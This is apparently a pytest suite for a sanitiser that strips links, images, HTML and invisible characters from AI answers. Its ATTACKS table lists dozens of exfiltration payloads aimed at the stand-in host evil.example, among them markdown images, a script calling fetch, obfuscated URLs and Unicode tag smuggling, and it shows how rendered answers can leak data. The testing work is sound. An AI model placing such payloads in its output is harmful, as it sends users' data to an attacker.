"""What an answer's text may not hold, in whatever form: links, images, HTML, characters that cannot be seen."""

import html
import re
import time

import pytest
from edda.neutralising import REMOVED, neutralise
from hypothesis import given
from hypothesis import strategies as st

CANARY = "CANARY-7f3a91"
SOURCES = "See https://status.example.com/x or evil.example. Write to hr@corp.example about Node.js."

ATTACKS = {
    "image": f"![x](https://evil.example/?q={CANARY})",
    "image with a title": f'![x](https://evil.example/{CANARY} "t")',
    "link": f"[click](https://evil.example/{CANARY})",
    "link with angle brackets": f"[click](<https://evil.example/{CANARY}>)",
    "link by reference": f"[click][r]\n\n[r]: https://evil.example/{CANARY}",
    "image by reference": f"![click][r]\n\n[r]: <https://evil.example/{CANARY}>",
    "link by reference, no scheme": f"[click][r]\n\n[r]: //evil.example/{CANARY}",
    "autolink": f"<https://evil.example/{CANARY}>",
    "autolink of mail": f"<mailto:{CANARY}@evil.example>",
    "mail": f"{CANARY}@evil.example",
    "bare": f"https://evil.example/{CANARY}",
    "bare, in capitals": f"HTTPS://EVIL.EXAMPLE/{CANARY}",
    "one slash": f"https:/evil.example/{CANARY}",
    "no slash": f"https:evil.example/{CANARY}",
    "backslashes": f"https:\\\\evil.example\\{CANARY}",
    "no scheme": f"//evil.example/{CANARY}",
    "www": f"www.evil.example/{CANARY}",
    "host and path": f"evil.example/{CANARY}",
    "host and query": f"evil.example?q={CANARY}",
    "host and port": f"evil.example:8080/{CANARY}",
    "address": f"192.0.2.7/{CANARY}",
    "label": f"{CANARY}.evil.example",
    "zero width in the scheme": f"ht\u200btps://evil.example/{CANARY}",
    "zero width in the host": f"https://ev\u2060il.example/{CANARY}",
    "full width": f"ｈｔｔｐｓ：／／evil.example/{CANARY}",
    "full width colon": f"https：//evil.example/{CANARY}",
    "Cyrillic host": f"https://еvil.example/{CANARY}",
    "ideographic full stop": f"https://evil。example/{CANARY}",
    "entity": f"https&#58;//evil.example/{CANARY}",
    "entity of an entity": f"https&amp;#58;//evil.example/{CANARY}",
    "entity, deep": f"https&{'amp;' * 9}#58;//evil.example/{CANARY}",
    "entity, parted": f"https&\u200b#58;//evil.example/{CANARY}",
    "entity by name": f"https&colon;&sol;&sol;evil.example/{CANARY}",
    "escaped": f"https\\://evil.example/{CANARY}",
    "HTML image": f'<img src="https://evil.example/{CANARY}">',
    "HTML image, open": f"<img src=//evil.example/{CANARY} ",
    "HTML by entities": f"&lt;img src=&quot;//evil.example/{CANARY}&quot;&gt;",
    "style": f"<style>@import'//evil.example/{CANARY}'</style>",
    "script": f"<script>fetch('//evil.example/{CANARY}')</script>",
    "SVG": f"<svg><image href='https://evil.example/{CANARY}'/></svg>",
    "data": f"data:text/html;base64,{CANARY}",
    "data in an image": f"![](data:image/svg+xml,{CANARY})",
    "javascript": f"[x](javascript:fetch('//evil.example/{CANARY}'))",
    "other schemes": f"ftp://evil.example/{CANARY} ms-word:ofe|u|https://evil.example/{CANARY}",
    "share": f"\\\\evil.example\\{CANARY}",
    "file": f"file:///evil.example/{CANARY}",
    "phone": f"tel:{CANARY}",
    "LaTeX": f"\\href{{https://evil.example/{CANARY}}}{{x}} \\includegraphics{{//evil.example/{CANARY}}}",
    "embedded page": f"![[https://evil.example/{CANARY}]]",
    "beside Chinese": f"请访问https://evil.example/{CANARY}查看",
    "Cyrillic top": f"evil.рф/{CANARY}",
    "Chinese top": f"evil.香港/{CANARY}",
    "Hindi top": f"evil.भारत/{CANARY}",
    "Korean host": f"나쁜.한국?{CANARY}",
    "Punycode top": f"evil.xn--p1ai/{CANARY}",
    "label, Cyrillic top": f"{CANARY}.evil.рф",
    "label, Punycode": f"{CANARY}.xn--80ak6aa92e.xn--p1ai",
    "label, full width": f"{CANARY}.ｅｖｉｌ．ｃｏｍ",
    "label, full stops": f"{CANARY}．evil．com",
    "label, ideographic full stop": f"{CANARY}。evil。com",
    "label, accents that stand apart": f"{CANARY}.evi\u0301l.com",
    "label, beside Chinese": f"{CANARY}.evil.com查看",
    "mail, Punycode": f"{CANARY}@evil.xn--p1ai",
    "behind a digit": f"1http://2130706433/{CANARY} -https://2130706433/{CANARY}",
    "programs": f"<skype:{CANARY}?call> ms-word:{CANARY} bitcoin:{CANARY}",
    "escaped dots": f"{CANARY}\\.evil\\.com",
    "direction": f"\u202ehttps://evil.example/{CANARY}\u202c",
}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_nothing_is_left_that_a_program_would_fetch_or_link(text: str) -> None:
    inert = neutralise(f"Before {text} after.", SOURCES)
    assert CANARY not in inert.text
    assert "evil.example/" not in inert.text.lower()
    assert inert.removed >= inert.foreign >= 1
    assert inert.text.startswith("Before ")
    assert_inert(inert.text)


def assert_inert(text: str) -> None:
    assert not re.search(r"!\[|\]\(|\]:|\]\[|\[\[|<[a-zA-Z/!?]", text)
    assert not re.search(r"[a-z][a-z0-9+.-]+:[/\\]|www\.\w", text, re.I)
    assert html.unescape(text) == text


@given(st.text(alphabet="ab:/\\.[]()<>!&#;x58\u200b\ufe0f@ wth\n", max_size=40))
def test_whatever_is_put_together_stays_inert(text: str) -> None:
    once = neutralise(text, "")
    assert_inert(once.text)
    assert neutralise(once.text, "").removed == 0


@pytest.mark.parametrize(
    "text",
    [
        "Staff get 25 days [1]. Half-time staff get 12.5 [2].",
        "The ratio is 3:4, at 10:30 e.g. in the U.S. under v1.2.3 and/or C:\\Users.",
        "Write to hr@corp.example about Node.js.",
        "Ｅｖｉｌ．ｅｘａｍｐｌｅ",
        "员工每年享有二十五天的带薪假期。[1]",
        "1.员工每年享有25天/年。2.5天的假期。请看evil.example查看",
        "कर्मचारियों को 12.5 दिन मिलते हैं।",
        "می‌خواهم [1] 👩‍👩‍👧 ❤️",
        "if a < b and c > d: x = y[0] & z",
        "R&D; AT&T & others",
    ],
)
def test_plain_text_stays_as_it_is(text: str) -> None:
    inert = neutralise(text, SOURCES)
    assert inert.text == text
    assert (inert.removed, inert.foreign) == (0, 0)


def test_what_cannot_be_seen_is_gone() -> None:
    smuggled = "".join(chr(0xE0000 + ord(character)) for character in CANARY)
    selectors = "".join(chr(0xE0100 + ord(character)) for character in CANARY)
    assert neutralise(f"Yes{smuggled}.{selectors}\u200b\u202e\ufe01 [1]", "").text == "Yes. [1]"


def test_a_link_that_the_sources_have_is_taken_out_and_is_not_foreign() -> None:
    inert = neutralise("It is at https://status.example.com/x. [1]", SOURCES)
    assert inert.text == f"It is at {REMOVED}. [1]"
    assert (inert.removed, inert.foreign) == (1, 0)


def test_a_link_that_goes_on_where_the_sources_end_is_foreign() -> None:
    assert neutralise(f"https://status.example.com/x?{CANARY}", SOURCES).foreign == 1


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ('<a href="https://status.example.com/x">the <b>status</b></a> page', "the status page"),
        ("&lt;a href=&quot;https://status.example.com/x&quot;&gt;status&lt;/a&gt; page", "status page"),
        ("One<br/>two<BR >three <!-- four -->", "One two three"),
        ("List<String> of Map<K, V>, if a <b and c> d", "List‹String> of Map‹K, V>, if a ‹b and c> d"),
    ],
)
def test_tags_of_html_are_taken_out_and_what_else_is_between_brackets_stays(text: str, left: str) -> None:
    inert = neutralise(text, SOURCES)
    assert inert.text == left
    assert inert.foreign == 0


def test_what_a_tag_parts_is_no_link_without_it() -> None:
    inert = neutralise(f"ht<b></b>tps://ev<i>il.example/{CANARY}", SOURCES)
    assert CANARY not in inert.text
    assert inert.foreign > 0


def test_names_stay_only_if_the_sources_have_them() -> None:
    assert neutralise("hr@corp.example, evil.example", SOURCES).removed == 0
    assert neutralise("r@corp.example", SOURCES).removed == 1
    assert neutralise("other.example", SOURCES).foreign == 1


def test_marks_that_stand_side_by_side_stay_marks() -> None:
    assert neutralise("Good![1][2](3) [4]: yes", "").text == "Good! [1] [2] (3) [4] : yes"


@pytest.mark.parametrize(
    "piece", ["a_", "a-", "a.", "a@", "//", "a:", "![", "](", "&#", "<a ", "<a =", "ab.cd", "\\\\a", "1.2.3.4:"]
)
def test_a_long_text_takes_time_in_proportion(piece: str) -> None:
    began = time.process_time()
    neutralise(piece * (40_000 // len(piece)), "x" * 40_000)
    assert time.process_time() - began < 5
